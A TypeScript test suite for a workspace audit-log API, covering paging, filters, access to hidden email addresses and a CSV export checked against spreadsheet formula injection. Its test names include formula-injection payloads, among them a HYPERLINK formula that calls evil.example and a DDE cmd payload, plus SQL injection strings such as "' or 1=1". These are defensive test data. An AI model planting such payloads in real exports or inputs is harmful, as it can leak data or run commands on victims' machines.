/** Reading the log: pages, filters compared with a model, what a viewer may see, and the CSV read back. */
import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, test } from "vitest";
import { v7 as uuidv7 } from "uuid";
import { AUDIT_ACTION_NAMES, AUDIT_ACTIONS, AUDIT_GROUP_NAMES, HIDDEN_ADDRESS } from "#contract/audit.ts";
import { appendEntries } from "../testing/audit-log.ts";
import type { Answer } from "../testing/http.ts";
import { addMember, makeWorkspace, type Person, signUpPerson, type Workspace } from "../testing/people.ts";
import { useServer } from "../testing/server.ts";

interface Entry {
  sequence: number;
  occurredAt: string;
  action: string;
  group: string | null;
  actor: { memberId: string | null; name: string };
  target: { type: string; id: string | null; name: string };
  ipAddress: string | null;
  userAgent: string | null;
  changes: Record<string, { from?: unknown; to?: unknown }>;
  hash: string;
}

const server = useServer();
let owner: Person;
let auditor: Person;
let viewer: Person;
let workspace: Workspace;
let auditorRole: string;

const ACTORS = Array.from({ length: 4 }, () => uuidv7());
const TARGETS = Array.from({ length: 5 }, () => uuidv7());
const START = Date.UTC(2026, 2, 1);
const HOUR = 3_600_000;
/** Names that a spreadsheet might run as a formula, and names that only look odd. */
const NAMES = [
  "Ada Okafor",
  '=HYPERLINK("http://evil.example/?x="&A1;"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "ok;=1+1",
  'ok",=1+1,"',
  "ok\t=1+1",
  "＝1+1",
  "  =1+1",
  "Łukasz, 陈 🎙 \"quoted\" 'apostrophe'",
  "two\r\nlines",
];

beforeAll(async () => {
  owner = await signUpPerson(server, "Olga");
  workspace = await makeWorkspace(owner);
  auditor = await signUpPerson(server, "Audrey");
  viewer = await signUpPerson(server, "Vi");
  await addMember(server, owner, workspace, auditor, workspace.roles.Member);
  await addMember(server, owner, workspace, viewer, workspace.roles.Viewer);
  auditorRole = uuidv7();
  await server.database.query(
    "insert into roles (tenant_id, role_id, name, permissions) values ($1, $2, 'Auditor', '{audit.view,audit.export}')",
    [workspace.tenantId, auditorRole],
  );
  await giveRole(auditor, auditorRole);
  // A few moments with many entries each, so that pages end in the middle of one. The clock goes back now and then.
  await appendEntries(server.database.ownerUrl, workspace.tenantId, 600, (index) => ({
    occurredAt: new Date(START + (Math.floor(index / 7) - (index % 50 === 0 ? 20 : 0)) * HOUR),
    action: AUDIT_ACTION_NAMES[(index * 5) % AUDIT_ACTION_NAMES.length] ?? "",
    actorMemberId: index % 11 === 0 ? null : (ACTORS[(index * 3) % ACTORS.length] ?? null),
    actorName: NAMES[index % NAMES.length] ?? "",
    targetType: "channel",
    targetId: TARGETS[(index * 7) % TARGETS.length] ?? null,
    targetName: NAMES[(index * 5) % NAMES.length] ?? "",
    ipAddress: "2001:db8::1",
    userAgent: "Test/1.0 (X11; Linux)",
    changes: JSON.stringify({ name: { from: NAMES[(index + 1) % NAMES.length], to: "ben@example.com" } }),
  }));
});

async function giveRole({ email }: Person, roleId: string): Promise<void> {
  await server.database.query("update members set role_id = $3 where tenant_id = $1 and email = $2", [
    workspace.tenantId,
    email,
    roleId,
  ]);
}

type Filters = Record<string, string | string[] | undefined>;

function address(filters: Filters, to = ""): string {
  const query = new URLSearchParams();
  for (const [name, value] of Object.entries(filters)) for (const one of [value ?? []].flat()) query.append(name, one);
  return `${workspace.path}/audit-log${to}?${query.toString()}`;
}

async function all(filters: Filters = {}, limit = "200", who = owner): Promise<Entry[]> {
  const entries: Entry[] = [];
  let cursor: string | undefined;
  do {
    const { status, json } = await who.get(address({ ...filters, limit, cursor }));
    expect(status).toBe(200);
    entries.push(...json.items);
    cursor = json.nextCursor ?? undefined;
    expect(entries.length).toBeLessThan(5_000);
  } while (cursor !== undefined);
  return entries;
}

const newestFirst = (a: Entry, b: Entry) => Date.parse(b.occurredAt) - Date.parse(a.occurredAt) || b.sequence - a.sequence;
const numbers = (entries: Entry[]) => entries.map(({ sequence }) => sequence);

test("an entry tells who did what to which target, when, from which address and browser, and what changed", async () => {
  const { json: channel } = await owner.post(`${workspace.path}/channels`, { name: "Ops" });
  await owner.send("PATCH", `${workspace.path}/channels/${channel.channelId}`, {
    body: { name: "Operations" },
    headers: { "user-agent": "Mozilla/5.0 (Test)" },
  });
  const { json } = await owner.get(address({ target: channel.channelId }));
  const [edited, created] = json.items as Entry[];
  const actor = { memberId: expect.any(String), name: "Olga" };
  expect(edited).toMatchObject({
    action: "channel.edited",
    group: "channels",
    actor,
    target: { type: "channel", id: channel.channelId, name: "Operations" },
    ipAddress: "127.0.0.1",
    userAgent: "Mozilla/5.0 (Test)",
    changes: { name: { from: "Ops", to: "Operations" } },
  });
  expect(created).toMatchObject({ action: "channel.created", actor, sequence: (edited?.sequence ?? 0) - 1 });
  expect(json.head).toEqual({ sequence: edited?.sequence, hash: edited?.hash });
});

test.each(["1", "7", "200"])("pages of %s contain every entry once, newest first", async (limit) => {
  const entries = await all({ from: "2026-03-01", to: "2026-03-02" }, limit);
  const whole = await all();
  expect(numbers(whole)).toEqual(numbers([...whole].sort(newestFirst)));
  expect(new Set(numbers(whole)).size).toBe(whole.length);
  expect(entries).toEqual(whole.filter(({ occurredAt }) => /^2026-03-0[12]T/.test(occurredAt)));
});

test("later pages neither skip nor repeat entries when new ones are added meanwhile", async () => {
  const before = await all();
  const seen: number[] = [];
  let cursor: string | undefined;
  do {
    const { json } = await owner.get(address({ limit: "97", cursor }));
    seen.push(...numbers(json.items));
    cursor = json.nextCursor ?? undefined;
    await owner.post(`${workspace.path}/channels`, { name: `Meanwhile ${seen.length}` });
  } while (cursor);
  expect(seen).toEqual(numbers(before));
});

describe("every combination of filters finds the same entries as the model", () => {
  let whole: Entry[];
  let newest: number;
  beforeAll(async () => {
    whole = await all();
    newest = Math.max(...numbers(whole));
  });
  const day = (text: string) => Date.parse(text);
  const some = <Value>(values: readonly Value[], seed: number) => values[seed % values.length] as Value;

  test.each(Array.from({ length: 64 }, (_, bits) => bits))("combination %i", async (bits) => {
    const from = bits & 1 ? some(["2026-03-02", "2026-03-02T13:00:00Z", "2026-03-02T13:00:00+05:30"], bits) : undefined;
    const to = bits & 2 ? some(["2026-03-03", "2026-03-03T03:00:00Z", "2026-03-03T03:00:00.000-08:00"], bits) : undefined;
    const action =
      bits & 4
        ? bits % 3
          ? [some(AUDIT_ACTION_NAMES, bits), some(AUDIT_ACTION_NAMES, bits + 9)]
          : some(AUDIT_ACTION_NAMES, bits)
        : undefined;
    const group = bits & 8 ? some(AUDIT_GROUP_NAMES, bits) : undefined;
    const actor = bits & 16 ? some(ACTORS, bits) : undefined;
    const target = bits & 32 ? some(TARGETS, bits) : undefined;
    const until = to === undefined ? Infinity : day(to) + (to.length === 10 ? 24 * HOUR : 0);
    const actions = [action ?? []].flat();
    const expected = whole.filter(
      (entry) =>
        (from === undefined || day(entry.occurredAt) >= day(from)) &&
        day(entry.occurredAt) < until &&
        (action === undefined && group === undefined
          ? true
          : actions.includes(entry.action as never) || (group !== undefined && entry.group === group)) &&
        (actor === undefined || entry.actor.memberId === actor) &&
        (target === undefined || entry.target.id === target),
    );
    // Except for the entries of this test's own exports.
    const found = (await all({ from, to, action, group, actor, target }, "30")).filter(({ sequence }) => sequence <= newest);
    expect(numbers(found)).toEqual(numbers(expected));
    // Only some combinations are exported, because of the rate limit.
    if (bits % 4) return;
    const csv = await owner.get(address({ from, to, action, group, actor, target }, "/export"));
    const sequences = readBack(csv)
      .map(({ sequence }) => Number(sequence))
      .filter((sequence) => sequence <= newest);
    expect(sequences).toEqual(numbers(expected).sort((a, b) => a - b));
  });

  test("an invalid filter is refused by name", async () => {
    for (const [name, value] of [
      ["from", "yesterday"],
      ["to", "2026-02-30"],
      ["action", "channel.exploded"],
      ["group", "everything"],
      ["actor", "Ada"],
      ["target", "' or 1=1"],
      ["cursor", "AAAA"],
      ["limit", "201"],
      ["q", "Ada"],
    ] as const) {
      expect([name, (await owner.get(address({ [name]: value }))).code]).toEqual([name, "invalid_input"]);
    }
    for (const odd of ["0000-01-01", "9999-12-31"]) {
      expect((await owner.get(address({ from: odd, to: odd }))).status).toBe(200);
    }
  });
});

test("the list of actors has everybody who acted once, under their newest name, including removed members", async () => {
  const { items, complete } = (await owner.get(`${workspace.path}/audit-log/actors`)).json;
  const whole = await all();
  const newest = new Map<string, string>();
  for (const { actor } of whole) if (actor.memberId && !newest.has(actor.memberId)) newest.set(actor.memberId, actor.name);
  expect(complete).toBe(true);
  expect(new Map(items.map(({ memberId, name }: { memberId: string; name: string }) => [memberId, name]))).toEqual(newest);
  expect(items).toHaveLength(newest.size);
  const times = new Map(whole.toReversed().map(({ actor, occurredAt }) => [actor.memberId, occurredAt]));
  for (const { memberId, newestAt } of items) expect(newestAt).toBe(times.get(memberId));
});

describe("the list of targets", () => {
  interface Target {
    type: string;
    id: string;
    name: string;
    newestAt: string;
  }
  const targets = async (query: Record<string, string>, who = owner) => {
    const { status, json } = await who.get(address(query, "/targets"));
    expect(status).toBe(200);
    return json as { items: Target[]; complete: boolean };
  };
  const ids = ({ items }: { items: Target[] }) => items.map(({ id }) => id);

  test("a removed target is found by the beginning of any word of any earlier name, and shown under its last name", async () => {
    const { channelId } = (await owner.post(`${workspace.path}/channels`, { name: "Night Watch" })).json;
    await owner.patch(`${workspace.path}/channels/${channelId}`, { name: "Émile's Control" });
    await owner.delete(`${workspace.path}/channels/${channelId}`);
    const gone = await signUpPerson(server, "Quickleaver");
    await addMember(server, owner, workspace, gone, workspace.roles.Viewer);
    const { memberId } = (await gone.get(workspace.path)).json.self;
    await owner.post(`${workspace.path}/members/removals`, { memberIds: [memberId] });
    for (const search of ["night", "WATCH nigh", "emil", "contr em", "s control"]) {
      const found = await targets({ search });
      expect([search, found]).toEqual([
        search,
        { items: [{ type: "channel", id: channelId, name: "Émile's Control", newestAt: expect.any(String) }], complete: true },
      ]);
    }
    expect((await targets({ search: "quickl" })).items).toMatchObject([
      { type: "member", id: memberId, name: gone.name },
      { type: "invitation", name: gone.email },
    ]);
    const removed = await all({ target: memberId, action: "member.removed" });
    expect(removed).toHaveLength(1);
    for (const search of ["ight", "night quickl", "' or 1=1", "%", "\0", "___"]) {
      expect([search, await targets({ search })]).toEqual([search, { items: [], complete: true }]);
    }
  });

  test("targets are found as people type their names, in every script", async () => {
    const cases = readFileSync(new URL("../../../web/src/ui/testing/search.tsv", import.meta.url), "utf8");
    const lines = cases.trim().split("\n").slice(1);
    expect(lines.length).toBeGreaterThan(20);
    const createdNames = new Set<string>();
    for (const line of lines) {
      const [query = "", name = ""] = line.split("\t");
      // Emoji are not part of words. The browser's own lists know them by other words.
      if (!/[\p{L}\p{N}]/u.test(query)) continue;
      if (!createdNames.has(name)) {
        const { json, status } = await owner.post(`${workspace.path}/channels`, { name });
        expect([name, status]).toEqual([name, 201]);
        createdNames.add(name);
        await owner.delete(`${workspace.path}/channels/${json.channelId}`);
      }
      expect([query, (await targets({ search: query })).items.map((target) => target.name)]).toEqual([
        query,
        expect.arrayContaining([name]),
      ]);
    }
  });

  test("at most twenty are listed, the answer says if there are more, and without a search they come from the newest entries", async () => {
    const channelIds = [];
    for (let count = 0; count < 21; count += 1) {
      channelIds.push((await owner.post(`${workspace.path}/channels`, { name: `Bulk bulky ${count}` })).json.channelId);
    }
    const many = await targets({ search: "bulk" });
    expect([many.items.length, many.complete]).toEqual([20, false]);
    for (const id of ids(many)) expect(channelIds).toContain(id);
    expect(ids(await targets({ search: "bulk 20" }))).toEqual([channelIds[20]]);
    expect(new Set(ids(await targets({})))).toEqual(new Set(channelIds.slice(1)));
    expect(await targets({ id: channelIds[3] })).toMatchObject({
      items: [{ type: "channel", name: "Bulk bulky 3" }],
      complete: true,
    });
    expect(await targets({ id: uuidv7() })).toEqual({ items: [], complete: true });
  });

  test("a viewer who may not see addresses can neither find nor see a target by its address", async () => {
    const invited = "hidden.hire@secret.example";
    const { invitationId } = (
      await owner.post(`${workspace.path}/invitations`, { email: invited, roleId: workspace.roles.Member })
    ).json;
    await owner.delete(`${workspace.path}/invitations/${invitationId}`);
    for (const search of ["hidden", "hire", invited, "hidden.hire@sec", "@secret.example"]) {
      expect([search, (await targets({ search })).items]).toMatchObject([
        search,
        [{ type: "invitation", id: invitationId, name: invited }],
      ]);
      expect([search, await targets({ search }, auditor)]).toEqual([search, { items: [], complete: true }]);
    }
    expect(ids(await targets({}))).toContain(invitationId);
    expect(JSON.stringify(await targets({}, auditor))).not.toMatch(/secret|hidden/);
    expect((await targets({ id: invitationId }, auditor)).items).toMatchObject([{ name: HIDDEN_ADDRESS }]);
  });

  test("no target of another workspace is found, by name or by id", async () => {
    const eve = await signUpPerson(server, "Eve");
    const theirs = await makeWorkspace(eve);
    const { channelId } = (await eve.post(`${theirs.path}/channels`, { name: "Quarterdeck" })).json;
    expect(ids(await targets({ search: "quarter" }))).toEqual([]);
    expect(ids(await targets({ id: channelId }))).toEqual([]);
    expect((await eve.get(`${theirs.path}/audit-log/targets?search=quarter`)).json.items).toHaveLength(1);
    expect((await eve.get(`${theirs.path}/audit-log/targets?search=night`)).json.items).toEqual([]);
  });
});

describe("addresses", () => {
  test("addresses are shown only to members who may see contact details, in the list and in the CSV", async () => {
    const invited = "new.hire+test@example.com";
    await owner.post(`${workspace.path}/invitations`, { email: invited, roleId: workspace.roles.Member });
    const [seen] = await all({ action: "invitation.created" });
    expect(seen).toMatchObject({ target: { name: invited }, changes: { email: { to: invited } } });
    const [hidden] = await all({ action: "invitation.created" }, "200", auditor);
    expect(hidden).toMatchObject({
      sequence: seen?.sequence,
      target: { name: HIDDEN_ADDRESS },
      changes: { email: { to: HIDDEN_ADDRESS }, role: { to: "Member" } },
    });
    for (const text of [(await auditor.get(address({ limit: "200" }))).text, (await auditor.get(address({}, "/export"))).text]) {
      expect(text).not.toMatch(/[\w.]@\w/);
      expect(text).toContain(HIDDEN_ADDRESS);
    }
    expect((await owner.get(address({}, "/export"))).text).toContain(invited);
  });
});

function readBack(answer: Answer): Array<Record<string, string>> {
  expect(answer.status).toBe(200);
  return parse(answer.text, { columns: true, bom: true, record_delimiter: "\r\n" });
}

/** A cell that a spreadsheet would run as a formula, whichever separator it splits at. */
const formula = /(^|[,;\t|"'\n])\s*[=+\-@＝＋－＠]/u;

describe("the CSV", () => {
  test("the CSV contains the list, cell for cell", async () => {
    const whole = await all();
    const answer = await owner.get(address({}, "/export"));
    const lines = readBack(answer);
    expect(answer.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(answer.headers["content-disposition"]).toBe(`attachment; filename="audit-log-${workspace.slug}.csv"`);
    expect(answer.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(lines.map((line) => line.hash)).toEqual([...whole].sort((a, b) => a.sequence - b.sequence).map(({ hash }) => hash));
    const bare = (text: string | null | undefined) => (text ?? "").replaceAll("'", "");
    for (const line of lines) {
      const entry = whole.find(({ sequence }) => sequence === Number(line.sequence)) as Entry;
      expect([line.time, line.action, line.actor_id, line.target_id, line.ip_address]).toEqual([
        entry.occurredAt,
        entry.action,
        entry.actor.memberId ?? "",
        entry.target.id ?? "",
        entry.ipAddress ?? "",
      ]);
      expect([bare(line.actor), bare(line.target), bare(line.user_agent)]).toEqual([
        bare(entry.actor.name),
        bare(entry.target.name),
        bare(entry.userAgent),
      ]);
    }
    // The export's own entry came later.
    const [exported] = await all({ action: "audit_log.exported" });
    expect(exported).toMatchObject({ target: { id: workspace.tenantId }, changes: {} });
    expect(lines.some(({ sequence }) => Number(sequence) === exported?.sequence)).toBe(false);
  });

  test("the CSV has no cell that a spreadsheet would run as a formula, whatever its list separator", async () => {
    const lines = readBack(await owner.get(address({}, "/export")));
    const cells = lines.flatMap((line) => Object.entries(line).filter(([name]) => name !== "changes"));
    for (const [, cell] of cells) expect(cell.replace(/'(?=[=+\-@＝＋－＠\t\r])/gu, "’")).not.toMatch(formula);
    expect(cells.some(([, cell]) => cell.startsWith("'=HYPERLINK"))).toBe(true);
    expect(cells.some(([, cell]) => cell === "ok;'=1+1")).toBe(true);
    expect(cells.some(([, cell]) => cell === `ok",'=1+1,"`)).toBe(true);
    expect(cells.some(([, cell]) => cell === "Łukasz, 陈 🎙 \"quoted\" 'apostrophe'")).toBe(true);
  });

  test("an export is logged with its filters, and refused to another site's page", async () => {
    await owner.get(address({ from: "2026-03-01", group: ["roles", "channels"] }, "/export"));
    const [entry] = await all({ action: "audit_log.exported" });
    expect(entry?.changes).toEqual({ from: { to: "2026-03-01" }, group: { to: ["roles", "channels"] } });
    const count = (await all({ action: "audit_log.exported" })).length;
    const refused = await owner.get(address({}, "/export"), { "sec-fetch-site": "cross-site" });
    expect(refused).toMatchObject({ status: 403, code: "cross_site" });
    expect(await all({ action: "audit_log.exported" })).toHaveLength(count);
  });
});

test("reading needs audit.view, exporting needs audit.export, and an empty result is a page too", async () => {
  for (const to of ["", "/actors", "/targets", "/export"]) {
    expect(await viewer.get(address({}, to))).toMatchObject({ status: 403, code: "forbidden" });
  }
  const nothing = (await owner.get(address({ from: "2001-01-01", to: "2001-01-01" }))).json;
  expect(nothing).toMatchObject({ items: [], nextCursor: null });
  expect(readBack(await owner.get(address({ to: "2001-01-01" }, "/export")))).toEqual([]);
});

test("every action has a group and a phrase", () => {
  for (const action of AUDIT_ACTION_NAMES) {
    expect(AUDIT_GROUP_NAMES).toContain(AUDIT_ACTIONS[action].group);
    expect(AUDIT_ACTIONS[action].says).toMatch(/^[a-z]/);
  }
});
